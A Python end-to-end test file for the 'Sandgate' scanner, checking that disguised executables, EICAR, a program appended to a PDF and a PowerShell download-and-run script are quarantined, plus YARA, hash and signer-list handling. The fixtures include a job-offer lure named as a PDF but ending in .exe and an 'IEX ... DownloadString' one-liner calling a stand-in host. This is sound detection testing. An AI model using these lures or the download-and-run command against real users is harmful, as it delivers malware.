#!/usr/bin/env python3
# End-to-end: executables, names, YARA and hash lists through the shipped
# policy (issue 7). A real PE built at test time with mingw-w64 (and the
# hand-made minimal PE) named like a job offer inside a zip is quarantined in
# both profiles with name.double_extension and name.disguised_executable among
# the reasons; the EICAR test file, a program hidden in a PDF and a
# download-and-run one-liner are quarantined with yara.* reasons; a broken
# YARA rule file fails `policy check` at its file and line; a hash block list
# decides with the reason hash.blocked. Signed PEs (built and signed at test
# time by tests/analyzers/pe/make_fixtures.sh: mingw-w64, osslsigncode and a
# test CA made with openssl) are untrusted until the policy's `codesign`
# section names the CA, and their signer's thumbprint on the policy's blocked
# or trusted list decides with the reason signer.blocked / signer.allowed.
import hashlib
import os
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import fixtures as F  # noqa: E402
from harness import SandgateCase, main, run_sandgate  # noqa: E402

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SHIPPED = os.path.join(ROOT, "policies", "default.yaml")
LURE = "Coinbase_online_careers_2022_07.pdf.exe"


def eicar():
    # Assembled here so that no file of the repository is the test file itself.
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


class Executables(SandgateCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # A real Windows program; a missing compiler is a failure, not a skip.
        cc = "x86_64-w64-mingw32-gcc"
        if not F.have(cc):
            raise RuntimeError("%s is missing (deploy/setup.sh installs gcc-mingw-w64-x86-64-win32)" % cc)
        src = os.path.join(cls.tmp, "offer.c")
        with open(src, "w") as f:
            f.write('#include <stdio.h>\nint main(void) { puts("apply now"); return 0; }\n')
        exe = os.path.join(cls.tmp, "offer.exe")
        F.run([cc, "-O1", "-s", "-o", exe, src])
        cls.real_pe = F.file_bytes(exe)

    def scan_policy(self, path, profile, expect_rc, policy=SHIPPED):
        res, rep = self.scan1(path, args=("--policy", policy, "--profile", profile),
                              expect_rc=expect_rc, builtin=False)
        self.assertEqual(rep["policy"]["profile"], profile)
        return rep

    def reason_findings(self, rep, obj_path=None):
        return [r["finding"] for r in rep["reasons"] if obj_path is None or r["object"] == obj_path]

    def test_disguised_program_in_zip_is_quarantined_with_both_name_reasons(self):
        for label, pe in (("mingw", self.real_pe), ("minimal", F.minimal_pe(b"careers"))):
            z = F.make_zip_py(self.path(label, "offer.zip"), {LURE: pe})
            for profile in ("mail", "upload"):
                with self.subTest(pe=label, profile=profile):
                    rep = self.scan_policy(z, profile, expect_rc=1)
                    self.assertEqual(rep["verdict"], "quarantine")
                    obj = self.obj(rep, "offer.zip/" + LURE)
                    self.assertEqual(obj["type"]["label"], "pe")
                    self.assertFinding(obj, "name.double_extension", "high")
                    self.assertFinding(obj, "name.disguised_executable", "high")
                    got = self.reason_findings(rep, "offer.zip/" + LURE)
                    self.assertIn("name.double_extension", got, rep["reasons"])
                    self.assertIn("name.disguised_executable", got, rep["reasons"])

    def test_real_pe_is_parsed(self):
        p = self.write("tool.exe", self.real_pe)
        res, rep = self.scan1(p, args=("--policy", SHIPPED, "--profile", "mail"), expect_rc=1,
                              builtin=False)
        ids = [f["id"] for f in rep["objects"][0]["findings"]]
        self.assertIn("pe.unsigned", ids)
        self.assertNotIn("pe.malformed", ids)

    def test_eicar_is_quarantined_by_yara(self):
        for name in ("eicar.com", "eicar.txt"):
            p = self.write(name, eicar())
            for profile in ("mail", "upload"):
                with self.subTest(name=name, profile=profile):
                    rep = self.scan_policy(p, profile, expect_rc=1)
                    self.assertEqual(rep["verdict"], "quarantine")
                    self.assertFinding(rep["objects"][0], "yara.eicar_test_file", "high")
                    self.assertIn("yara.eicar_test_file", self.reason_findings(rep), rep["reasons"])
        # Inside a zip, the entry is found and named.
        z = F.make_zip_py(self.path("eicar.zip"), {"docs/eicar.com": eicar()})
        rep = self.scan_policy(z, "mail", expect_rc=1)
        self.assertIn("yara.eicar_test_file", self.reason_findings(rep, "eicar.zip/docs/eicar.com"))

    def test_eicar_inside_a_longer_file_is_not_the_test_file(self):
        p = self.write("notes.txt", b"Some notes.\n" + eicar() + b"\n")
        rep = self.scan_policy(p, "mail", expect_rc=0)
        self.assertNotIn("yara.eicar_test_file", [f["id"] for f in rep["objects"][0]["findings"]])

    def test_program_hidden_in_a_pdf_and_download_and_run(self):
        pdf = F.minimal_pdf("Offer letter")
        p = self.write("offer.pdf", pdf + b"\n%" + self.real_pe)
        rep = self.scan_policy(p, "upload", expect_rc=1)
        self.assertIn("yara.embedded_pe_in_document", self.reason_findings(rep, "offer.pdf"))
        script = (b"To finish your application run:\r\n"
                  b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\r\n")
        ps = self.write("apply.ps1", script)
        rep = self.scan_policy(ps, "mail", expect_rc=1)
        self.assertIn("yara.download_and_run_powershell", self.reason_findings(rep))
        # Named like a text file, the script is also a disguised executable:
        # that rule comes first, and the YARA finding is still reported.
        txt = self.write("readme.txt", script)
        rep = self.scan_policy(txt, "mail", expect_rc=1)
        self.assertFinding(rep["objects"][0], "yara.download_and_run_powershell", "high")
        # A plain CV still passes both profiles with YARA on.
        cv = self.write("cv.pdf", pdf)
        for profile in ("mail", "upload"):
            with self.subTest(profile=profile):
                rep = self.scan_policy(cv, profile, expect_rc=0)
                self.assertFalse([f for f in rep["objects"][0]["findings"] if f["id"].startswith("yara.")])

    def copy_shipped(self, name):
        """A copy of the shipped policy with its lists, to edit."""
        d = self.workdir(name)
        shutil.copy(SHIPPED, os.path.join(d, "default.yaml"))
        shutil.copytree(os.path.join(ROOT, "policies", "lists"), os.path.join(d, "lists"))
        shutil.copytree(os.path.join(ROOT, "policies", "rules"), os.path.join(d, "rules"))
        return d

    def test_broken_yara_rule_fails_policy_check_with_file_and_line(self):
        d = self.copy_shipped("broken-yara")
        bad = os.path.join(d, "rules", "zz_local.yar")
        with open(bad, "w") as f:
            f.write("// local additions\n\nrule local_lure { strings: $a = \"careers\" condition: $b }\n")
        res = run_sandgate(["policy", "check", os.path.join(d, "default.yaml")])
        self.assertEqual(res.rc, 1, res.describe())
        out = res.stdout.decode(errors="replace") + res.stderr.decode(errors="replace")
        self.assertIn(bad + ":3:1:", out)
        # A scan with that policy is refused too (exit 2: usage or I/O error).
        p = self.write("x.txt", b"hello")
        res = run_sandgate(["scan", "--policy", os.path.join(d, "default.yaml"), p])
        self.assertEqual(res.rc, 2, res.describe())

    def test_blocked_hash_list_reason(self):
        d = self.copy_shipped("hash-lists")
        pe = F.minimal_pe(b"blocked")
        with open(os.path.join(d, "lists", "blocked-sha256.txt"), "a") as f:
            f.write("\n%s  invoice.exe\n" % hashlib.sha256(pe).hexdigest())
        z = F.make_zip_py(self.path("hash", "invoice.zip"), {"invoice.exe": pe})
        policy = os.path.join(d, "default.yaml")
        rep = self.scan_policy(z, "mail", expect_rc=1, policy=policy)
        self.assertEqual(rep["action"], "reject")
        self.assertIn({"rule": "blocked-hashes", "object": "invoice.zip/invoice.exe",
                       "finding": "hash.blocked"}, rep["reasons"])
        rep = self.scan_policy(z, "upload", expect_rc=1, policy=policy)
        self.assertIn("hash.blocked", self.reason_findings(rep, "invoice.zip/invoice.exe"))


def copy_policy(d):
    """The shipped policy with its lists and rules, in d, to edit."""
    shutil.copy(SHIPPED, os.path.join(d, "default.yaml"))
    shutil.copytree(os.path.join(ROOT, "policies", "lists"), os.path.join(d, "lists"))
    shutil.copytree(os.path.join(ROOT, "policies", "rules"), os.path.join(d, "rules"))
    return os.path.join(d, "default.yaml")


def append(path, text):
    with open(path, "a") as f:
        f.write(text)


class SignedExecutables(SandgateCase):
    """Authenticode trust from the policy, and signer block/allow lists."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        # Trust must come from the policy in these tests, not the environment.
        os.environ.pop("SANDGATE_CODESIGN_ANCHORS", None)
        cls.fx = os.path.join(cls.tmp, "pe-fixtures")
        script = os.path.join(ROOT, "tests", "analyzers", "pe", "make_fixtures.sh")
        proc = subprocess.run(["sh", script, cls.fx], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        if proc.returncode != 0:
            log = os.path.join(cls.fx, "log.txt")
            detail = open(log).read()[-2000:] if os.path.exists(log) else ""
            raise RuntimeError("make_fixtures.sh failed (%d): %s %s" % (
                proc.returncode, proc.stdout.decode(errors="replace"), detail))
        der = F.run(["openssl", "x509", "-in", os.path.join(cls.fx, "signer.pem"),
                     "-outform", "DER"]).stdout
        cls.thumb_sha256 = hashlib.sha256(der).hexdigest()
        cls.thumb_sha1 = hashlib.sha1(der).hexdigest()
        cls.signed = os.path.join(cls.fx, "signed.exe")

    def policy_with_ca(self, name):
        """A copy of the shipped policy whose `codesign` section names the test CA."""
        d = self.workdir(name)
        policy = copy_policy(d)
        os.makedirs(os.path.join(d, "certs"))
        shutil.copy(os.path.join(self.fx, "ca.pem"), os.path.join(d, "certs", "test-ca.pem"))
        append(policy, "\ncodesign:\n  system_bundle: true\n  anchors: [certs/test-ca.pem]\n")
        return d, policy

    def scan_signed(self, policy, profile, expect_rc, name="tool.exe"):
        p = self.path("scan", name)
        shutil.copy(self.signed, p)
        res, rep = self.scan1(p, args=("--policy", policy, "--profile", profile),
                              expect_rc=expect_rc, builtin=False)
        return rep

    def authenticode(self, rep):
        return [f for f in rep["objects"][0]["findings"] if f["id"].startswith("pe.authenticode.")]

    def test_trust_anchor_named_by_the_policy(self):
        # Without the anchor the test CA is unknown: untrusted.
        d = self.workdir("no-anchor")
        rep = self.scan_signed(copy_policy(d), "mail", expect_rc=1)
        self.assertEqual([f["id"] for f in self.authenticode(rep)], ["pe.authenticode.untrusted"])
        # The policy names the CA file: valid, with the signer's thumbprints.
        d, policy = self.policy_with_ca("anchor")
        res = run_sandgate(["policy", "check", policy])
        self.assertEqual(res.rc, 0, res.describe())
        rep = self.scan_signed(policy, "mail", expect_rc=1)
        found = self.authenticode(rep)
        self.assertEqual([f["id"] for f in found], ["pe.authenticode.valid"], rep)
        self.assertIn("sha256=" + self.thumb_sha256, found[0].get("evidence", ""))
        self.assertIn("sha1=" + self.thumb_sha1, found[0].get("evidence", ""))
        # Still an executable for the shipped rules: trust alone lets nothing through.
        self.assertEqual(rep["verdict"], "quarantine")
        # The same anchor without the system bundle also verifies.
        with open(policy) as f:
            text = f.read().replace("system_bundle: true", "system_bundle: false")
        with open(policy, "w") as f:
            f.write(text)
        rep = self.scan_signed(policy, "upload", expect_rc=1)
        self.assertEqual([f["id"] for f in self.authenticode(rep)], ["pe.authenticode.valid"])

    def test_bad_anchor_is_a_positioned_policy_error(self):
        d = self.workdir("bad-anchor")
        policy = copy_policy(d)
        with open(policy) as f:
            n = len(f.read().splitlines())
        with open(os.path.join(d, "not-a-cert.pem"), "w") as f:
            f.write("hello\n")
        # Lines n+1 (blank), n+2 codesign:, n+3 anchors:, then the two entries.
        append(policy, "\ncodesign:\n  anchors:\n    - certs/missing.pem\n    - not-a-cert.pem\n")
        res = run_sandgate(["policy", "check", policy])
        self.assertEqual(res.rc, 1, res.describe())
        out = res.stdout.decode(errors="replace") + res.stderr.decode(errors="replace")
        self.assertIn("%s:%d:7: cannot read trust anchor 'certs/missing.pem'" % (policy, n + 4), out)
        self.assertIn("%s:%d:7: trust anchor 'not-a-cert.pem' is not a PEM certificate" % (policy, n + 5),
                      out)
        # An unknown key in the section, with a hint.
        policy2 = copy_policy(self.workdir("bad-key"))
        append(policy2, "\ncodesign:\n  anchor: [x.pem]\n")
        res = run_sandgate(["policy", "check", policy2])
        self.assertEqual(res.rc, 1, res.describe())
        out = res.stdout.decode(errors="replace") + res.stderr.decode(errors="replace")
        self.assertIn("%s:%d:3: unknown key 'anchor' in codesign" % (policy2, n + 3), out)

    def test_blocked_signer_is_quarantined_with_signer_blocked(self):
        d, policy = self.policy_with_ca("blocked-signer")
        append(os.path.join(d, "lists", "blocked-signers.txt"), "\n%s\n" % self.thumb_sha256)
        for profile in ("mail", "upload"):
            with self.subTest(profile=profile):
                rep = self.scan_signed(policy, profile, expect_rc=1)
                self.assertEqual(rep["verdict"], "quarantine")
                self.assertEqual(rep["action"], "quarantine")
                self.assertIn({"rule": "blocked-signers", "object": "tool.exe",
                               "finding": "signer.blocked"}, rep["reasons"])
        # On both lists, the blocked list wins; a SHA-1 thumbprint works too.
        d, policy = self.policy_with_ca("blocked-and-trusted")
        append(os.path.join(d, "lists", "blocked-signers.txt"), "%s\n" % self.thumb_sha1.upper())
        append(os.path.join(d, "lists", "trusted-signers.txt"), "%s\n" % self.thumb_sha256)
        rep = self.scan_signed(policy, "mail", expect_rc=1)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertIn("signer.blocked", [r["finding"] for r in rep["reasons"]])

    def test_trusted_signer_passes_with_signer_allowed(self):
        d, policy = self.policy_with_ca("trusted-signer")
        append(os.path.join(d, "lists", "trusted-signers.txt"), "\n%s\n" % self.thumb_sha256)
        rep = self.scan_signed(policy, "mail", expect_rc=0)
        self.assertEqual(rep["verdict"], "pass")
        self.assertIn({"rule": "trusted-signed-executables", "object": "tool.exe",
                       "finding": "signer.allowed"}, rep["reasons"])
        # Trusted list, but the policy no longer names the CA: not valid, so
        # not allowed.
        d2 = self.workdir("trusted-no-anchor")
        policy2 = copy_policy(d2)
        append(os.path.join(d2, "lists", "trusted-signers.txt"), "\n%s\n" % self.thumb_sha256)
        rep = self.scan_signed(policy2, "mail", expect_rc=1)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertNotIn("signer.allowed", [r["finding"] for r in rep["reasons"]])


if __name__ == "__main__":
    main()
